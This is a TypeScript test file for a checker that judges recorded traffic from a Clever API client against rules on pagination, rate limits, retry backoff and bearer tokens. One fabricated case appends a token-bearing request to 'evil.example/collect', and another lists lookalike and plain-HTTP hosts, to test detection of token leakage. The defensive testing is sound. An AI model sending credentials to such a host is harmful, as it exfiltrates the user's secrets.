import { expect } from 'chai';
import { createCleverClient } from '../client/index.ts';
import type { Caught } from './formats/har-testing.ts';
import { type Body, changeBody, copyOfCaught, idsWith, inVirtualTime, judgeCaught } from './testing.ts';

/** Students, ten a page: a 429 before page 2, a 503 twice before page 3; then teachers. */
async function sync(): Promise<Caught[]> {
  return await inVirtualTime(async ({ fetch, clock, sandbox }) => {
    const clever = createCleverClient({
      token: sandbox.token,
      baseUrl: 'https://api.clever.com',
      fetch,
      clock,
      jitter: () => 0,
    });
    let page = 0;
    for await (const _ of clever.pages('/students', { query: { limit: 10 } })) {
      page++;
      // Half a second of work for each page, so that instants differ.
      await clock.sleep(500);
      if (page === 1)
        await sandbox.setState('the bucket has {remaining} left', { remaining: 0, token: sandbox.token });
      if (page === 2)
        await sandbox.setState('the next answers are {script}', {
          script: [{ status: 503, body: '{"message":"down"}', times: 2 }],
        });
    }
    for await (const _ of clever.pages('/teachers', { query: { limit: 10 } })) await clock.sleep(500);
  });
}

const statuses = (caught: readonly Caught[]) => caught.map((one) => one.status);

function lastIdOf({ answer }: Caught): string {
  const { data } = JSON.parse(answer) as Body;
  return data.at(-1)?.data.id ?? '';
}

/** Moves everything from a request on to another instant. */
function moveFrom(caught: Caught[], at: number, byMs: number): void {
  for (const one of caught.slice(at)) one.atMs += byMs;
}

describe('a capture of a good client', () => {
  let good: Caught[];
  before(async () => {
    good = await sync();
  });

  it('has a refusal, an outage and two lists in it', () => {
    expect(statuses(good).slice(0, 6)).to.deep.equal([200, 429, 200, 503, 503, 200]);
    expect(good.length).to.be.greaterThan(6);
  });

  it('keeps every claim that it has material for', () => {
    const { client } = judgeCaught(good);
    expect(idsWith(client, 'failed', 'cantTell')).to.deep.equal([]);
    expect(idsWith(client, 'passed')).to.have.members([
      'pagination/client-follows-next',
      'pagination/client-uses-link-as-given',
      'pagination/client-resolves-relative-links',
      'pagination/client-stops-at-the-end',
      'pagination/client-accepts-any-link-order',
      'pagination/client-limit-within-10000',
      'rate-limit/client-waits-for-reset',
      'rate-limit/client-survives-empty-429',
      'rate-limit/client-continues-after-429',
      'backoff/client-retries-503',
      'backoff/client-first-wait-1s',
      'backoff/client-waits-double',
      'backoff/client-at-most-five-retries',
      'access/client-sends-bearer',
    ]);
  });

  it('shows what the server did as well', () => {
    const { server } = judgeCaught(good);
    expect(idsWith(server, 'failed')).to.deep.equal([]);
    expect(idsWith(server, 'passed')).to.include.members([
      'rate-limit/429-body-empty',
      'rate-limit/429-headers',
      'rate-limit/admits-after-reset',
      'pagination/next-walk-complete',
    ]);
  });

  it('keeps them by a clock that is two minutes off, too', () => {
    const off = copyOfCaught(good);
    moveFrom(off, 0, 120_000);
    const { client } = judgeCaught(off);
    expect(idsWith(client, 'failed')).to.deep.equal([]);
    expect(idsWith(client, 'passed')).to.include('rate-limit/client-waits-for-reset');
  });

  const broken: readonly {
    readonly what: string;
    readonly breaks: string;
    readonly spoil: (caught: Caught[]) => void;
  }[] = [
    {
      what: 'it did not wait for Reset',
      breaks: 'rate-limit/client-waits-for-reset',
      spoil: (caught) => {
        const waitedMs = (caught[2]?.atMs ?? 0) - (caught[1]?.atMs ?? 0);
        if (caught[2]) caught[2].atMs -= waitedMs - 300;
      },
    },
    {
      what: 'it tried again after 0.3 s',
      breaks: 'backoff/client-first-wait-1s',
      spoil: (caught) => moveFrom(caught, 4, -700),
    },
    {
      what: 'its second wait was no longer than the first',
      breaks: 'backoff/client-waits-double',
      spoil: (caught) => moveFrom(caught, 5, -1000),
    },
    {
      what: 'it took the second link for next',
      breaks: 'pagination/client-accepts-any-link-order',
      spoil: (caught) => {
        // Page 2 has self, prev and next: by its place it went back.
        const { links } = JSON.parse(caught[2]?.answer ?? '{}') as { links: { rel: string; uri: string }[] };
        const prev = links.find((link) => link.rel === 'prev')?.uri ?? '';
        const back = {
          ...structuredClone(caught[0] as Caught),
          url: `https://api.clever.com${prev}`,
          atMs: (caught[2]?.atMs ?? 0) + 500,
        };
        caught.splice(3, 3, back);
      },
    },
    {
      what: 'it doubled the version',
      breaks: 'pagination/client-resolves-relative-links',
      spoil: (caught) => {
        const one = caught[2] as Caught;
        one.url = one.url.replace('/v2.0/', '/v2.0/v2.0/');
        Object.assign(one, { status: 404, answer: 'Cannot GET' });
        caught.splice(1, 1);
        caught.splice(2, 3);
      },
    },
    {
      what: 'it built the link anew',
      breaks: 'pagination/client-uses-link-as-given',
      spoil: (caught) => {
        for (const one of caught.slice(1, 3)) one.url = one.url.replace('limit=10&', '');
      },
    },
    {
      what: 'it went on after the end',
      breaks: 'pagination/client-stops-at-the-end',
      spoil: (caught) => {
        const last = caught[5] as Caught;
        const more = {
          ...structuredClone(last),
          url: last.url.replace(/starting_after=\w+/, `starting_after=${lastIdOf(last)}`),
          atMs: last.atMs + 300,
        };
        changeBody(more, (body) => {
          body.data = [];
        });
        caught.splice(6, 0, more);
      },
    },
    {
      what: 'it asked for too much',
      breaks: 'pagination/client-limit-within-10000',
      spoil: (caught) => {
        const one = caught[0] as Caught;
        one.url = one.url.replace('limit=10', 'limit=20000');
      },
    },
    {
      what: 'it sent a request without its token',
      breaks: 'access/client-sends-bearer',
      spoil: (caught) => {
        const one = caught[2] as Caught;
        one.headers = one.headers.filter(([name]) => name !== 'authorization');
      },
    },
    {
      what: 'it repeated a request that was refused for good',
      breaks: 'backoff/client-no-retry-404',
      spoil: (caught) => {
        const last = structuredClone(caught.at(-1) as Caught);
        Object.assign(last, {
          url: 'https://api.clever.com/v2.0/students/5f00000000000000000000ff',
          status: 404,
          answer: '{"error":"Resource not found"}',
        });
        caught.push({ ...last, atMs: last.atMs + 1000 }, { ...last, atMs: last.atMs + 3000 });
      },
    },
    {
      what: 'it took the token to a stranger',
      breaks: 'safety/client-keeps-token-on-origin',
      spoil: (caught) => {
        const one = structuredClone(caught[0] as Caught);
        caught.push({
          ...one,
          url: 'https://evil.example/collect',
          status: 200,
          answer: 'thanks',
          atMs: one.atMs + 99_000,
        });
      },
    },
    {
      what: 'it tried a seventh time',
      breaks: 'backoff/client-at-most-five-retries',
      spoil: (caught) => {
        const one = caught[4] as Caught;
        const waits = [4, 8, 16, 16, 16];
        let atMs = one.atMs;
        const more = waits.map((seconds) => {
          atMs += seconds * 1000;
          return { ...structuredClone(one), atMs };
        });
        moveFrom(caught, 5, 80_000);
        caught.splice(5, 0, ...more);
      },
    },
  ];
  for (const { what, breaks, spoil } of broken)
    it(`breaks ${breaks} where ${what}`, () => {
      const caught = copyOfCaught(good);
      spoil(caught);
      expect(idsWith(judgeCaught(caught).client, 'failed')).to.include(breaks);
    });

  it('may show its token to another host of Clever, but never in plain HTTP', () => {
    const askAt = (url: string) => {
      const one = structuredClone(good[0] as Caught);
      return idsWith(judgeCaught([...copyOfCaught(good), { ...one, url, answer: '{}' }]).client, 'failed');
    };
    expect(askAt('https://clever.com/oauth/tokeninfo')).to.deep.equal([]);
    for (const url of [
      'http://clever.com/oauth/tokeninfo',
      'https://clever.com.evil.example/',
      'https://notclever.com/',
    ])
      expect(askAt(url), url).to.deep.equal(['safety/client-keeps-token-on-origin']);
  });

  it('is not accused of what another program did with the same token', () => {
    const other = copyOfCaught(good).map((one) => ({ ...one, atMs: one.atMs + 150 }));
    for (const one of other) one.headers.push(['user-agent', 'another/1.0']);
    const both = [...copyOfCaught(good), ...other].sort((a, b) => a.atMs - b.atMs);
    expect(idsWith(judgeCaught(both).client, 'failed')).to.deep.equal([]);
  });

  it('is not accused of two syncs in a row, nor of a capture that ends anywhere', () => {
    const again = copyOfCaught(good).map((one) => ({ ...one, atMs: one.atMs + 3_600_000 }));
    expect(idsWith(judgeCaught([...copyOfCaught(good), ...again]).client, 'failed')).to.deep.equal([]);
    for (let end = 1; end < good.length; end++)
      expect(idsWith(judgeCaught(copyOfCaught(good).slice(0, end)).client, 'failed'), `${end}`).to.deep.equal(
        [],
      );
  });

  it('cannot be judged by instants that a tool cut to whole seconds', () => {
    const coarse = copyOfCaught(good);
    moveFrom(coarse, 4, -400);
    for (const one of coarse) one.atMs = Math.floor(one.atMs / 1000) * 1000;
    expect(idsWith(judgeCaught(coarse).client, 'failed')).to.deep.equal([]);
  });
});
